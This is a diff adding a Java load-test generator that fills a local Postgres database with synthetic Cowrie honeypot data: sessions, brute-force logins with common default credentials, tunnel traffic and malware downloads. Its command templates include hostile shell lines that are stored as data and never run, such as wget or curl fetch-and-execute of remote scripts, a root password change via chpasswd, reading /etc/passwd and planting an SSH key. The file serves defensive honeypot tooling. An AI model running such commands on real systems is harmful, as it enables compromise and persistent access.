@@ -0,0 +1,227 @@
+package systemstatus.loadtest;
+
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.StringReader;
+import java.nio.charset.StandardCharsets;
+import java.sql.Connection;
+import java.sql.DriverManager;
+import java.sql.SQLException;
+import java.sql.Statement;
+import java.time.Duration;
+import java.time.Instant;
+import java.time.temporal.ChronoUnit;
+import java.util.SplittableRandom;
+
+import org.postgresql.PGConnection;
+import org.postgresql.copy.CopyManager;
+
+import systemstatus.util.CommandFingerprint;
+import systemstatus.util.PgCopyText;
+
+/**
+ * Fyller en lokal Postgres med syntetiske cowrie-data for lasttesting. Fordelingene er skjeve med vilje:
+ * noen få IP-er står for mesteparten av sesjonene, og noen få brukernavn/passord går igjen.
+ * Samme --seed gir samme datasett, så resultater kan sammenlignes mellom commits.
+ *
+ * <pre>
+ * mvn -q test-compile exec:java -Dexec.classpathScope=test -Dexec.mainClass=systemstatus.loadtest.DatasetGenerator \
+ *   -Dexec.args="--url=jdbc:postgresql://127.0.0.1:5433/homelab_load --user=... --password=... --sessions=2000000 --reset"
+ * </pre>
+ *
+ * Ligger under src/test, så det ikke følger med i produksjons-jar-en. --url er påkrevd.
+ *
+ * Argumenter: --sessions (antall sesjoner), --ips (antall kilde-IP-er), --skew (Zipf-eksponent),
+ * --days (tidsrom bakover fra nå), --seed, --reset (tømmer tabellene først).
+ */
+public final class DatasetGenerator {
+
+    private static final String[] USERNAMES = {
+        "root", "admin", "user", "ubuntu", "pi", "test", "oracle", "postgres", "git", "ftpuser", "support", "guest"
+    };
+    private static final String[] PASSWORDS = {
+        "123456", "password", "admin", "root", "12345678", "raspberry", "1234", "qwerty", "toor", "111111", "admin123"
+    };
+    private static final String[] COMMANDS = {
+        "uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m", "whoami", "w", "crontab -l",
+        "cd /tmp; wget http://%IP%/%FILE%.sh; chmod +x %FILE%.sh; ./%FILE%.sh",
+        "curl -s http://%IP%:%PORT%/bins.sh | sh",
+        "echo \"root:%RAND%\" | chpasswd",
+        "cat /etc/passwd", "ls -la /dev/shm/%FILE%", "nproc", "lscpu | grep Model",
+        "rm -rf /tmp/%FILE% && mkdir /tmp/%FILE%",
+        "echo %HASH% > ~/.ssh/authorized_keys"
+    };
+    private static final String[] COUNTRIES = {
+        "China|CN", "United States|US", "Russia|RU", "Brazil|BR", "India|IN", "Germany|DE", "Netherlands|NL",
+        "Vietnam|VN", "Korea|KR", "Singapore|SG", "Indonesia|ID", "France|FR"
+    };
+
+    private static final int FLUSH_CHARS = 4 << 20;
+
+    private final SplittableRandom random;
+    private final CopyManager copy;
+
+    private final StringBuilder sessions = new StringBuilder(), logins = new StringBuilder(), commands = new StringBuilder(),
+        tcpip = new StringBuilder(), files = new StringBuilder();
+
+    private DatasetGenerator(CopyManager copy, long seed) {
+        this.copy = copy;
+        this.random = new SplittableRandom(seed);
+    }
+
+    public static void main(String[] argv) throws Exception {
+        Args args = new Args(argv);
+        // Ingen standard-URL: verktøyet kjører DDL og TRUNCATE, så databasen skal alltid velges eksplisitt
+        String url = args.require("url");
+        if (args.has("reset") && url.matches(".*/homelab(\\?.*)?$")) {
+            throw new IllegalArgumentException("--reset nektes mot produksjonsdatabasen homelab: " + url);
+        }
+        long sessionCount = args.getLong("sessions", 100_000);
+        int ipCount = args.getInt("ips", 50_000);
+        double skew = args.getDouble("skew", 1.1);
+        int days = args.getInt("days", 90);
+        long seed = args.getLong("seed", 42);
+
+        try (Connection conn = DriverManager.getConnection(url, args.get("user", System.getenv("DB_USER")),
+                args.get("password", System.getenv("DB_PASS")))) {
+            try (Statement st = conn.createStatement()) {
+                // Cowrie sine tabeller først, så appens egen schema.sql slik den kjøres i drift
+                st.execute(readResource("/cowrie-schema.sql"));
+                st.execute(readResource("/schema.sql"));
+                if (args.has("reset")) {
+                    st.execute("TRUNCATE cowrie_sessions, cowrie_logins, cowrie_commands, cowrie_tcpip, cowrie_file_transfers, ip_geo RESTART IDENTITY");
+                }
+            }
+
+            long start = System.nanoTime();
+            DatasetGenerator generator = new DatasetGenerator(conn.unwrap(PGConnection.class).getCopyAPI(), seed);
+            generator.generateGeo(ipCount);
+            generator.generateSessions(sessionCount, ipCount, skew, days);
+
+            try (Statement st = conn.createStatement()) {
+                st.execute("ANALYZE");
+            }
+            System.out.printf("Ferdig: %d sesjoner på %d s%n", sessionCount, Duration.ofNanos(System.nanoTime() - start).toSeconds());
+        }
+    }
+
+    private void generateGeo(int ipCount) throws SQLException, IOException {
+        StringBuilder geo = new StringBuilder();
+        for (int i = 0; i < ipCount; i++) {
+            // Omtrent hver tiende IP mangler geodata, som i produksjon
+            if (random.nextInt(10) == 0) continue;
+            String[] country = COUNTRIES[random.nextInt(COUNTRIES.length)].split("\\|");
+            PgCopyText.row(geo, ip(i), country[0], country[1], "City " + random.nextInt(500),
+                Double.toString(random.nextDouble(-60, 70)), Double.toString(random.nextDouble(-180, 180)));
+        }
+        copy.copyIn("COPY ip_geo FROM STDIN", new StringReader(geo.toString()));
+    }
+
+    private void generateSessions(long sessionCount, int ipCount, double skew, int days) throws SQLException, IOException {
+        Zipf ips = new Zipf(ipCount, skew);
+        Zipf usernames = new Zipf(USERNAMES.length, 1.2);
+        Zipf passwords = new Zipf(500, skew);
+        Zipf commandTemplates = new Zipf(COMMANDS.length, 0.9);
+        Zipf destinations = new Zipf(200, 1.3);
+        Zipf malware = new Zipf(300, 1.2);
+
+        Instant now = Instant.now().truncatedTo(ChronoUnit.MICROS);
+        long spanMicros = Duration.ofDays(days).toNanos() / 1000;
+
+        for (long s = 0; s < sessionCount; s++) {
+            String ip = ip(ips.next(random));
+            String session = Long.toHexString(random.nextLong() & 0xFFFFFFFFFFFFL);
+            Instant t = now.minus(random.nextLong(spanMicros), ChronoUnit.MICROS);
+            // Bare sesjoner fra de siste ti minuttene kan fortsatt være aktive
+            boolean active = t.isAfter(now.minus(Duration.ofMinutes(10))) && random.nextBoolean();
+            Instant ended = active ? null : t.plusMillis(500 + random.nextInt(60_000));
+            PgCopyText.row(sessions, session, ip, t.toString(), ended == null ? null : ended.toString());
+
+            boolean success = false;
+            int attempts = 1 + (int) Math.min(50, -Math.log(1 - random.nextDouble()) * 3);
+            for (int a = 0; a < attempts && !success; a++) {
+                t = t.plusMillis(200 + random.nextInt(3000));
+                String username = USERNAMES[usernames.next(random)];
+                int p = passwords.next(random);
+                String password = p < PASSWORDS.length ? PASSWORDS[p] : "pw" + Integer.toString(p * 7919, 36);
+                success = random.nextInt(100) < 4;
+                String eventId = success ? "cowrie.login.success" : "cowrie.login.failed";
+                PgCopyText.row(logins, eventId + "|" + session + "|" + t, session, t.toString(), ip, username, password,
+                    success ? "t" : "f");
+            }
+
+            if (success) {
+                int count = 3 + random.nextInt(13);
+                for (int c = 0; c < count; c++) {
+                    t = t.plusMillis(100 + random.nextInt(2000));
+                    String input = fill(COMMANDS[commandTemplates.next(random)]);
+                    PgCopyText.row(commands, "cowrie.command.input|" + session + "|" + t, session, t.toString(), ip, input,
+                        Long.toString(CommandFingerprint.fingerprint(input)));
+                }
+            }
+
+            if (random.nextInt(100) < 3) {
+                int count = 1 + random.nextInt(20);
+                int d = destinations.next(random);
+                for (int c = 0; c < count; c++) {
+                    t = t.plusMillis(50 + random.nextInt(500));
+                    String type = c % 2 == 0 ? "request" : "data";
+                    PgCopyText.row(tcpip, "cowrie.direct-tcpip." + type + "|" + session + "|" + t, session, t.toString(), ip,
+                        "203.0.113." + d, Integer.toString(d % 3 == 0 ? 443 : 80), type,
+                        type.equals("data") ? "GET / HTTP/1.1 Host: example" + d + ".com" : null, null);
+                }
+            }
+
+            if (random.nextInt(100) < 2) {
+                t = t.plusMillis(500 + random.nextInt(5000));
+                int m = malware.next(random);
+                PgCopyText.row(files, "cowrie.session.file_download|" + session + "|" + t, session, t.toString(), ip,
+                    "file_download", "http://" + ip(random.nextInt(ipCount)) + "/bins/x" + m, hash(m), m < 50 ? "t" : "f");
+            }
+
+            if (sessions.length() > FLUSH_CHARS || logins.length() > FLUSH_CHARS) flush();
+            if (s > 0 && s % 100_000 == 0) System.out.printf("%d sesjoner%n", s);
+        }
+        flush();
+    }
+
+    private void flush() throws SQLException, IOException {
+        copy(sessions, "cowrie_sessions (session_id, src_ip, started_at, ended_at)");
+        copy(logins, "cowrie_logins (event_id, session_id, timestamp, src_ip, username, password, success)");
+        copy(commands, "cowrie_commands (event_id, session_id, timestamp, src_ip, input, fingerprint)");
+        copy(tcpip, "cowrie_tcpip (event_id, session_id, timestamp, src_ip, dst_ip, dst_port, event_type, data, ja4h)");
+        copy(files, "cowrie_file_transfers (event_id, session_id, timestamp, src_ip, event_type, filename, shasum, duplicate)");
+    }
+
+    private void copy(StringBuilder rows, String target) throws SQLException, IOException {
+        if (rows.isEmpty()) return;
+        copy.copyIn("COPY " + target + " FROM STDIN", new StringReader(rows.toString()));
+        rows.setLength(0);
+    }
+
+    private String fill(String template) {
+        return template
+            .replace("%IP%", ip(random.nextInt(1_000_000)))
+            .replace("%PORT%", Integer.toString(1024 + random.nextInt(60_000)))
+            .replace("%FILE%", Long.toString(random.nextLong() & 0xFFFFFFL, 36))
+            .replace("%RAND%", Long.toString(random.nextLong() & 0xFFFFFFFFL, 36))
+            .replace("%HASH%", hash(random.nextInt()));
+    }
+
+    // Deterministisk IP per indeks, spredt utover hele adresserommet
+    private static String ip(int i) {
+        int h = i * 0x9E3779B1;
+        return ((h >>> 24) % 223 + 1) + "." + ((h >>> 16) & 0xFF) + "." + ((h >>> 8) & 0xFF) + "." + (h & 0xFF);
+    }
+
+    private static String hash(int i) {
+        return String.format("%016x%016x%016x%016x", (long) i * 0x9E3779B97F4A7C15L, (long) ~i * 31, (long) i << 7, (long) i);
+    }
+
+    private static String readResource(String name) throws IOException {
+        try (InputStream in = DatasetGenerator.class.getResourceAsStream(name)) {
+            if (in == null) throw new IOException(name + " finnes ikke på classpath");
+            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
+        }
+    }
+}